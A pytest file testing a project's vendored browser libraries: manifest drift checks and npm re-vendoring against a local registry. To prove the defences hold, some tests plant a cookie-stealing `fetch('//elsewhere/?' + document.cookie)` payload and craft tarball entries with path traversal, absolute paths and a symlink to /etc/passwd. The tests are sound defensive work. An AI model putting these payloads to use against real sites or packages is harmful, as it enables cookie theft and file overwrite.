"""Vendored browser libraries (api/vendor.py): the committed files match their manifest,
the check finds every kind of drift, and re-vendoring verifies what npm gets.

Re-vendoring runs the real `npm`. The registry it asks is an outside system: the
tests run a small one on 127.0.0.1 (the two GETs npm makes: a package's metadata,
its tarball) serving tarballs built by `npm pack` from package folders made here,
so they need no network. One test re-vendors React through npm's own configured
registry and compares it with the committed files. Tests that need npm are skipped
without it; `--check` never needs it.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from api import vendor

NPM = shutil.which("npm")
needs_npm = pytest.mark.skipif(NPM is None, reason="npm (Node.js) is not installed")
STUDIO = Path(sys.executable).with_name("studio")


# -- what is committed ----------------------------------------------------------------------


def test_the_committed_files_match_the_manifest() -> None:
    assert vendor.check() == []


def test_every_vendored_package_has_its_licence_and_integrity() -> None:
    manifest = vendor.read_manifest()
    assert {p.name for p in manifest.packages} >= {"react", "react-dom", "graphiql"}
    for package in manifest.packages:
        paths = {file.path for file in package.files}
        assert package.license, package.name
        assert "package.json" in paths, package.name
        assert set(package.license_files) <= paths, package.name
        assert package.integrity.startswith("sha512-"), package.name
        published = json.loads((vendor.VENDOR_DIR / package.directory / "package.json").read_text())
        assert (published["name"], published["version"]) == (package.name, package.version)
        assert published["license"] == package.license


def test_the_manifest_names_no_host() -> None:
    text = (vendor.VENDOR_DIR / vendor.MANIFEST).read_text()
    assert "://" not in text
    assert "tarball" not in text


# -- the check fails on drift ---------------------------------------------------------------


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """A copy of web/vendor/ to spoil."""
    target = tmp_path / "vendor"
    shutil.copytree(vendor.VENDOR_DIR, target)
    assert vendor.check(target) == []
    return target


def test_check_finds_a_changed_file(copy: Path) -> None:
    path = copy / "react@18.2.0" / "umd" / "react.production.min.js"
    data = bytearray(path.read_bytes())
    data[100] ^= 1
    path.write_bytes(bytes(data))
    assert vendor.check(copy) == [
        "react@18.2.0/umd/react.production.min.js does not match its SHA-256 in the manifest"
    ]


def test_check_finds_a_missing_file_and_a_stray_one(copy: Path) -> None:
    (copy / "react@18.2.0" / "LICENSE").unlink()
    (copy / "react@18.2.0" / "extra.js").write_text("alert(1)")
    assert vendor.check(copy) == [
        "react@18.2.0/LICENSE is in the manifest but not on disk",
        "react@18.2.0/extra.js is not in the manifest",
    ]


def test_check_finds_a_declaration_not_vendored_yet(copy: Path) -> None:
    declaration = copy / vendor.DECLARATION
    text = declaration.read_text().replace('version = "18.2.0"', 'version = "18.3.1"', 1)
    declaration.write_text(text)
    assert sorted(vendor.check(copy)) == [
        "react@18.2.0 is vendored but not declared: run ./dev vendor",
        "react@18.3.1 is declared but not vendored: run ./dev vendor",
    ]


def test_check_reports_a_malformed_declaration(copy: Path) -> None:
    (copy / vendor.DECLARATION).write_text('[[package]]\nname = "react"\nversion = "^18"\n')
    [problem] = vendor.check(copy)
    assert "not an exact version" in problem


def read_json(copy: Path) -> Any:
    return json.loads((copy / vendor.MANIFEST).read_text())


def write_json(copy: Path, manifest: Any) -> None:
    (copy / vendor.MANIFEST).write_text(json.dumps(manifest, indent=2) + "\n")


def react(manifest: Any) -> Any:
    [entry] = [p for p in manifest["packages"] if p["name"] == "react"]
    return entry


def test_check_finds_a_file_added_on_disk_and_to_the_manifest(copy: Path) -> None:
    """Listed with its right SHA-256 and size, but neither declared nor a licence file."""
    (copy / "react@18.2.0" / "evil.js").write_bytes(b"alert(1)")
    manifest = read_json(copy)
    sha256 = hashlib.sha256(b"alert(1)").hexdigest()
    react(manifest)["files"].append({"path": "evil.js", "sha256": sha256, "size": 8})
    write_json(copy, manifest)
    assert vendor.check(copy) == [
        "react@18.2.0/evil.js is in the manifest but is neither declared in packages.toml "
        "nor a licence file nor package.json"
    ]


def test_check_finds_a_licence_the_package_json_does_not_give(copy: Path) -> None:
    manifest = read_json(copy)
    react(manifest)["license"] = "Proprietary"
    write_json(copy, manifest)
    assert vendor.check(copy) == [
        "react@18.2.0: the manifest gives the licence 'Proprietary', its package.json 'MIT'"
    ]


def test_check_finds_licence_files_that_are_not_the_packages(copy: Path) -> None:
    manifest = read_json(copy)
    react(manifest)["licenseFiles"] = []
    write_json(copy, manifest)
    assert vendor.check(copy) == [
        "react@18.2.0: the manifest names the licence files [], but its licence files are "
        "['LICENSE']"
    ]


def test_check_finds_a_package_json_of_another_package(copy: Path) -> None:
    shutil.copy(copy / "react-dom@18.2.0" / "package.json", copy / "react@18.2.0" / "package.json")
    manifest = read_json(copy)
    [entry] = [f for f in react(manifest)["files"] if f["path"] == "package.json"]
    data = (copy / "react@18.2.0" / "package.json").read_bytes()
    entry.update(sha256=hashlib.sha256(data).hexdigest(), size=len(data))
    write_json(copy, manifest)
    assert vendor.check(copy) == ["react@18.2.0/package.json is for react-dom@18.2.0"]


@pytest.mark.parametrize(
    ("integrity", "why"),
    [
        ("sha512-AAAA", "is not a tarball integrity as npm writes it"),
        ("sha1-" + base64.b64encode(b"x" * 20).decode(), "is not a tarball integrity"),
        ("", "is not a tarball integrity"),
    ],
)
def test_check_refuses_an_integrity_npm_would_not_write(
    copy: Path, integrity: str, why: str
) -> None:
    """Offline, a well-formed SHA-512 cannot be told from the tarball's (that one is
    verified against what npm gets whenever ./dev vendor runs); a malformed one can."""
    manifest = read_json(copy)
    react(manifest)["integrity"] = integrity
    write_json(copy, manifest)
    [problem] = vendor.check(copy)
    assert f"packages.0.integrity: {integrity!r} {why}" in problem


def test_check_refuses_a_package_listed_twice(copy: Path) -> None:
    manifest = read_json(copy)
    manifest["packages"].append(react(manifest))
    write_json(copy, manifest)
    [problem] = vendor.check(copy)
    assert problem.endswith("manifest.json: packages: the package 'react' is there twice")


def test_check_refuses_a_file_listed_twice(copy: Path) -> None:
    manifest = read_json(copy)
    react(manifest)["files"].append(react(manifest)["files"][0])
    write_json(copy, manifest)
    [problem] = vendor.check(copy)
    assert problem.endswith("packages.0.files: the file 'LICENSE' is there twice")


@pytest.mark.parametrize(
    ("declaration", "why"),
    [
        (
            '[[package]]\nname = "react"\nversion = "18.2.0"\nfiles = ["a.js"]\n' * 2,
            "package: the package 'react' is there twice",
        ),
        (
            '[[package]]\nname = "react"\nversion = "18.2.0"\nfiles = ["a.js", "a.js"]\n',
            "package.0.files: the file 'a.js' is there twice",
        ),
        (
            '[[package]]\nname = "react\\n"\nversion = "18.2.0"\nfiles = ["a.js"]\n',
            "is not an npm package name",
        ),
        (
            '[[package]]\nname = "react"\nversion = "18.2.0\\n"\nfiles = ["a.js"]\n',
            "is not an exact version",
        ),
        (
            '[[package]]\nname = "react"\nversion = "18.2.0"\nfiles = ["umd//a.js"]\n',
            "is not a path inside the package",
        ),
    ],
)
def test_check_refuses_a_declaration_with_a_package_or_file_twice_or_a_bad_name(
    copy: Path, declaration: str, why: str
) -> None:
    (copy / vendor.DECLARATION).write_text(declaration)
    [problem] = vendor.check(copy)
    assert why in problem


def test_check_finds_a_manifest_not_laid_out_as_vendor_writes_it(copy: Path) -> None:
    manifest = read_json(copy)
    manifest["packages"].reverse()
    write_json(copy, manifest)
    assert vendor.check(copy) == [
        "manifest.json is not as ./dev vendor writes it (its note, order or layout differ): "
        "run ./dev vendor"
    ]


def test_check_finds_a_page_file_that_is_not_declared(copy: Path) -> None:
    assert vendor.check(copy, needed=[("graphiql", "graphiql.min.js")]) == []
    assert vendor.check(copy, needed=[("graphiql", "graphiql.js")]) == [
        "graphiql graphiql.js is loaded by a page but not declared in packages.toml: "
        "declare it and run ./dev vendor"
    ]


def replace_with_symlink_to_a_copy(copy: Path) -> None:
    """The same bytes, but through a link to a file outside web/vendor/ (the server
    does not follow it, so the page would break while the SHA-256 still matches)."""
    path = copy / "react@18.2.0" / "umd" / "react.production.min.js"
    outside = copy.parent / "outside.js"
    outside.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(outside)


@pytest.mark.parametrize(
    ("spoil", "problem"),
    [
        (
            lambda copy: (copy / "react@18.2.0" / "etc").symlink_to("/etc"),
            "react@18.2.0/etc is a symbolic link: vendored files are regular files",
        ),
        (
            lambda copy: (copy / "dangling").symlink_to(copy / "nowhere"),
            "dangling is a symbolic link: vendored files are regular files",
        ),
        (
            replace_with_symlink_to_a_copy,
            "react@18.2.0/umd/react.production.min.js is a symbolic link: "
            "vendored files are regular files",
        ),
        (
            lambda copy: os.mkfifo(copy / "react@18.2.0" / "fifo"),
            "react@18.2.0/fifo is not a regular file (a FIFO, socket or device)",
        ),
        (
            lambda copy: (copy / "newdir" / "deeper").mkdir(parents=True),
            "newdir/ is a folder with no file of the manifest in it",
        ),
        (
            lambda copy: (copy / "react@18.2.0" / "esm").mkdir(),
            "react@18.2.0/esm/ is a folder with no file of the manifest in it",
        ),
    ],
    ids=["link-to-etc", "dangling-link", "link-to-a-copy", "fifo", "empty-folders", "extra-folder"],
)
def test_check_reports_every_link_special_file_and_extra_folder(
    copy: Path, spoil: Callable[[Path], object], problem: str
) -> None:
    spoil(copy)
    assert vendor.check(copy) == [problem]


def test_check_reports_a_whole_package_folder_that_is_a_link(copy: Path) -> None:
    moved = copy.parent / "react-elsewhere"
    (copy / "react@18.2.0").rename(moved)
    (copy / "react@18.2.0").symlink_to(moved)
    assert vendor.check(copy) == [
        "react@18.2.0 is a symbolic link: vendored files are regular files"
    ]


# -- integrity --------------------------------------------------------------------------------


def sri(data: bytes, algorithm: str = "sha512") -> str:
    return f"{algorithm}-" + base64.b64encode(hashlib.new(algorithm, data).digest()).decode()


def test_integrity_accepts_the_matching_hash_and_refuses_others() -> None:
    data = b"console.log(1)"
    vendor.verify_integrity(data, sri(data))
    vendor.verify_integrity(data, f"{sri(b'other', 'sha256')} {sri(data, 'sha512')}")
    with pytest.raises(vendor.VendorError, match="does not match"):
        vendor.verify_integrity(data + b" ", sri(data))
    with pytest.raises(vendor.VendorError, match="no sha512"):
        vendor.verify_integrity(data, "sha1-" + base64.b64encode(b"x" * 20).decode())


def test_check_needs_no_npm(tmp_path: Path) -> None:
    """`studio vendor --check` with a PATH that has no npm (nor anything else)."""
    result = run_studio(["vendor", "--check"], path=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "match web/vendor/manifest.json" in result.stdout


def test_vendor_without_npm_says_so_and_exits_2(tmp_path: Path) -> None:
    before = (vendor.VENDOR_DIR / vendor.MANIFEST).read_bytes()
    result = run_studio(["vendor"], path=tmp_path)
    assert result.returncode == 2
    assert "re-vendoring needs npm" in result.stderr
    assert "Traceback" not in result.stderr
    assert (vendor.VENDOR_DIR / vendor.MANIFEST).read_bytes() == before


def run_studio(args: list[str], *, path: Path) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PATH": str(path)}
    return subprocess.run(
        [str(STUDIO), *args], capture_output=True, text=True, env=environment, check=False
    )


# -- re-vendoring through npm, from a registry on 127.0.0.1 -----------------------------------


class Registry:
    """A registry holding tarballs by (name, version), answering npm's two GETs:
    `/<name>` (the package's metadata, `/` in a scoped name sent as %2F) and the
    tarball URL that metadata gives."""

    def __init__(self) -> None:
        self.tarballs: dict[tuple[str, str], bytes] = {}
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def metadata(self, name: str) -> dict[str, object]:
        versions = {}
        for (package, version), data in self.tarballs.items():
            if package == name:
                tarball = f"{self.url}/-/{name.replace('/', '-')}-{version}.tgz"
                dist = {
                    "tarball": tarball,
                    "integrity": vendor.sha512_integrity(data),
                    "shasum": hashlib.sha1(data).hexdigest(),  # noqa: S324 (npm's field)
                }
                versions[version] = {"name": name, "version": version, "dist": dist}
        latest = sorted(versions)[-1] if versions else None
        return {"name": name, "dist-tags": {"latest": latest}, "versions": versions}

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = unquote(self.path.partition("?")[0])
                body: bytes | None = None
                kind = "application/json"
                for (name, version), data in registry.tarballs.items():
                    if path == f"/-/{name.replace('/', '-')}-{version}.tgz":
                        body, kind = data, "application/octet-stream"
                    elif path == f"/{name}":
                        body = json.dumps(registry.metadata(name)).encode()
                status = 200 if body is not None else 404
                body = body if body is not None else b'{"error": "Not found"}'
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler

    def __enter__(self) -> Registry:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


NAME, VERSION = "@scope/lib", "1.2.3"
FILES = {
    "package.json": json.dumps({"name": NAME, "version": VERSION, "license": "MIT"}).encode(),
    "LICENSE.md": b"MIT License\n",
    "dist/lib.umd.js": b"window.Lib = {};\n",
    "dist/other.js": b"not wanted\n",
}


def npm_pack(folder: Path, files: dict[str, bytes]) -> bytes:
    """The tarball real `npm pack` makes of a package folder holding `files` (offline)."""
    assert NPM is not None
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    out = folder.parent / f"{folder.name}-packed"
    out.mkdir()
    result = subprocess.run(
        [NPM, "pack", str(folder), "--json", "--ignore-scripts", "--pack-destination", str(out)],
        capture_output=True,
        text=True,
        check=True,
    )
    [packed] = json.loads(result.stdout)
    data = (out / str(packed["filename"])).read_bytes()
    assert packed["integrity"] == vendor.sha512_integrity(data)
    return data


@pytest.fixture(scope="module")
def tarball(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    if NPM is None:
        pytest.skip("npm (Node.js) is not installed")
    return npm_pack(tmp_path_factory.mktemp("lib"), FILES)


@pytest.fixture
def registry(tarball: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Registry]:
    """A registry on 127.0.0.1 holding @scope/lib@1.2.3; npm caches in a folder of this test."""
    monkeypatch.setenv("npm_config_cache", str(tmp_path / "npm-cache"))
    with Registry() as running:
        running.tarballs[NAME, VERSION] = tarball
        yield running


def declare(directory: Path, files: list[str], version: str = VERSION) -> None:
    directory.mkdir(exist_ok=True)
    listed = ", ".join(json.dumps(f) for f in files)
    (directory / vendor.DECLARATION).write_text(
        f'[[package]]\nname = "{NAME}"\nversion = "{version}"\nfiles = [{listed}]\n'
    )


def test_fetch_writes_the_declared_files_licences_and_manifest(
    registry: Registry, tarball: bytes, tmp_path: Path
) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"])
    (directory / "old@0.1.0").mkdir()
    (directory / "old@0.1.0" / "gone.js").write_text("")
    manifest = vendor.fetch(directory, registry=registry.url)
    [package] = manifest.packages
    assert (package.name, package.version, package.license) == (NAME, VERSION, "MIT")
    assert package.license_files == ["LICENSE.md"]
    assert [f.path for f in package.files] == ["LICENSE.md", "dist/lib.umd.js", "package.json"]
    assert package.integrity == vendor.sha512_integrity(tarball)
    written = directory / "@scope" / "lib@1.2.3"
    assert {path: (written / path).read_bytes() for path in FILES if path != "dist/other.js"} == {
        path: data for path, data in FILES.items() if path != "dist/other.js"
    }
    assert not (written / "dist" / "other.js").exists()
    assert not (directory / "old@0.1.0").exists()
    assert vendor.read_manifest(directory) == manifest
    assert vendor.check(directory) == []
    assert registry.url not in (directory / vendor.MANIFEST).read_text()


def test_fetch_refuses_a_known_version_whose_tarball_changed(
    registry: Registry, tmp_path: Path
) -> None:
    """The registry now serves another tarball as @scope/lib@1.2.3, with metadata that
    agrees with it (so npm takes it): the integrity in manifest.json does not."""
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"])
    vendor.fetch(directory, registry=registry.url)
    before = {p: p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}
    tampered = {**FILES, "dist/lib.umd.js": b"fetch('//elsewhere/?' + document.cookie);\n"}
    registry.tarballs[NAME, VERSION] = npm_pack(tmp_path / "tampered", tampered)
    with pytest.raises(vendor.VendorError, match=r"does not match the integrity recorded in"):
        vendor.fetch(directory, registry=registry.url)
    assert {p: p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()} == before


def test_fetch_names_a_file_the_package_does_not_have(registry: Registry, tmp_path: Path) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/missing.js"])
    with pytest.raises(
        vendor.VendorError, match=r"@scope/lib@1\.2\.3 has no file dist/missing\.js"
    ):
        vendor.fetch(directory, registry=registry.url)
    assert sorted(p.name for p in directory.iterdir()) == [vendor.DECLARATION]


def test_fetch_names_a_version_the_registry_does_not_have(
    registry: Registry, tmp_path: Path
) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"], version="9.9.9")
    with pytest.raises(vendor.VendorError, match=r"@scope/lib@9\.9\.9: `npm pack` failed: No"):
        vendor.fetch(directory, registry=registry.url)


def test_unpack_refuses_a_tarball_that_does_not_match_its_integrity(tarball: bytes) -> None:
    wanted = vendor.DeclaredPackage(name=NAME, version=VERSION, files=["dist/lib.umd.js"])
    package, files = vendor.unpack(wanted, tarball, vendor.sha512_integrity(tarball))
    assert files["dist/lib.umd.js"] == FILES["dist/lib.umd.js"]
    spoiled = bytearray(tarball)
    spoiled[len(spoiled) // 2] ^= 1
    with pytest.raises(vendor.VendorError, match=r"@scope/lib@1\.2\.3: the tarball does not match"):
        vendor.unpack(wanted, bytes(spoiled), package.integrity)


# -- tarballs npm would not make (built here, each with a valid integrity) ---------------------

PACKAGE_JSON = json.dumps({"name": NAME, "version": VERSION, "license": "MIT"}).encode()


def tarball_of(*members: tuple[str, str, bytes | str]) -> bytes:
    """A .tgz of (name, kind, content) members: kind "file" (content: bytes), "dir",
    "symlink" or "hardlink" (content: the link's target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            if kind == "file":
                assert isinstance(content, bytes)
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
                continue
            info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE}.get(
                kind, tarfile.LNKTYPE
            )
            info.linkname = str(content)
            archive.addfile(info)
    return buffer.getvalue()


def unpack(*members: tuple[str, str, bytes | str]) -> dict[str, bytes]:
    wanted = vendor.DeclaredPackage(name=NAME, version=VERSION, files=["a.js"])
    data = tarball_of(*members)
    _, files = vendor.unpack(wanted, data, vendor.sha512_integrity(data))
    return files


GOOD = (
    ("package", "dir", ""),
    ("package/package.json", "file", PACKAGE_JSON),
    ("package/LICENSE", "file", b"MIT\n"),
    ("package/a.js", "file", b"ok"),
)


def test_unpack_takes_a_well_made_tarball() -> None:
    assert unpack(*GOOD) == {"LICENSE": b"MIT\n", "a.js": b"ok", "package.json": PACKAGE_JSON}


@pytest.mark.parametrize(
    ("member", "why"),
    [
        (("/a.js", "file", b"EVIL"), r"holds '/a\.js', which is absolute"),
        (("/package/a.js", "file", b"EVIL"), r"holds '/package/a\.js', which is absolute"),
        (("other/a.js", "file", b"EVIL"), r"holds 'other/a\.js', outside its package/"),
        (("a.js", "file", b"EVIL"), r"holds 'a\.js', outside its package/"),
        (("package", "file", b"EVIL"), r"holds 'package', outside its package/"),
        (("package/a.js", "file", b"EVIL"), r"holds 'package/a\.js' twice"),
        (("package/./a.js", "file", b"EVIL"), r"which has an empty, `\.` or `\.\.` part"),
        (("package//a.js", "file", b"EVIL"), r"which has an empty, `\.` or `\.\.` part"),
        (("./package/a.js", "file", b"EVIL"), r"which has an empty, `\.` or `\.\.` part"),
        (("package/../../a.js", "file", b"EVIL"), r"which has an empty, `\.` or `\.\.` part"),
        (("package/LICENSE-..\\..\\x", "file", b"L"), r"which has a backslash"),
        (("package/LICENSE\n", "file", b"L"), r"'package/LICENSE\\n', which has a control"),
        (("package/x\x1b[2J.js", "file", b"L"), r"which has a control character"),
        (("package/x\u202e.js", "file", b"L"), r"which has a control character"),
        (("package/b.js", "symlink", "/etc/passwd"), r"'package/b\.js', which is a link or"),
        (("package/b.js", "hardlink", "package/a.js"), r"'package/b\.js', which is a link or"),
        (("package/a.js/b.js", "file", b"x"), r"holds a\.js both as a file and a folder"),
        (("package/a.js", "dir", ""), r"holds 'package/a\.js' twice"),
    ],
    ids=[
        "absolute",
        "absolute-package",
        "other-folder",
        "no-folder",
        "package-as-file",
        "twice",
        "dot",
        "empty-part",
        "leading-dot",
        "dot-dot",
        "backslash",
        "newline",
        "escape",
        "bidi-override",
        "symlink",
        "hardlink",
        "file-and-folder",
        "folder-over-file",
    ],
)
def test_unpack_refuses_an_entry_npm_would_not_write(
    member: tuple[str, str, bytes | str], why: str
) -> None:
    """Each would replace or add to what the package holds, or write outside it."""
    with pytest.raises(vendor.VendorError, match=rf"^@scope/lib@1\.2\.3: the tarball .*{why}"):
        unpack(*GOOD, member)


def test_unpack_refuses_a_name_that_is_not_utf8() -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.GNU_FORMAT) as archive:
        for name, _, content in GOOD[1:]:
            info = tarfile.TarInfo(name)
            assert isinstance(content, bytes)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        info = tarfile.TarInfo("package/\udcff.js")  # byte 0xff, as tarfile decodes it
        archive.addfile(info, io.BytesIO(b""))
    data = buffer.getvalue()
    wanted = vendor.DeclaredPackage(name=NAME, version=VERSION, files=["a.js"])
    with pytest.raises(vendor.VendorError, match="a name that is not UTF-8"):
        vendor.unpack(wanted, data, vendor.sha512_integrity(data))


@pytest.mark.parametrize(
    ("package_json", "why"),
    [
        (b"[" * 100_000, "its package.json is not JSON"),
        (b"[1]", "its package.json is not a JSON object"),
        (
            json.dumps({"name": "other", "version": VERSION}).encode(),
            "its package.json is for other@1.2.3",
        ),
    ],
    ids=["nested-too-deep", "not-an-object", "another-package"],
)
def test_unpack_turns_a_bad_package_json_into_a_vendor_error(package_json: bytes, why: str) -> None:
    with pytest.raises(vendor.VendorError, match=rf"^@scope/lib@1\.2\.3: {why}"):
        unpack(("package/package.json", "file", package_json), ("package/a.js", "file", b"ok"))


def test_unpack_refuses_a_tarball_that_unpacks_too_big() -> None:
    """A header claiming more than MAX_UNPACKED_BYTES is refused before any of it is read."""
    info = tarfile.TarInfo("package/a.js")
    info.size = vendor.MAX_UNPACKED_BYTES + 1
    data = gzip.compress(info.tobuf())
    wanted = vendor.DeclaredPackage(name=NAME, version=VERSION, files=["a.js"])
    with pytest.raises(vendor.VendorError, match="the tarball unpacks to over 268435456 bytes"):
        vendor.unpack(wanted, data, vendor.sha512_integrity(data))


# -- re-vendoring through npm's own registry ---------------------------------------------------


@needs_npm
def test_re_vendoring_react_through_npm_gives_the_committed_files(tmp_path: Path) -> None:
    """Through whichever registry npm is configured with, as `./dev vendor` does."""
    directory = tmp_path / "vendor"
    directory.mkdir()
    committed = vendor.read_manifest().package("react")
    (directory / vendor.DECLARATION).write_text(
        f'[[package]]\nname = "react"\nversion = "{committed.version}"\n'
        'files = ["umd/react.production.min.js"]\n'
    )
    shutil.copy(vendor.VENDOR_DIR / vendor.MANIFEST, directory / vendor.MANIFEST)
    [package] = vendor.fetch(directory).packages
    assert package == committed
    for file in committed.files:
        path = f"{committed.directory}/{file.path}"
        assert (directory / path).read_bytes() == (vendor.VENDOR_DIR / path).read_bytes()
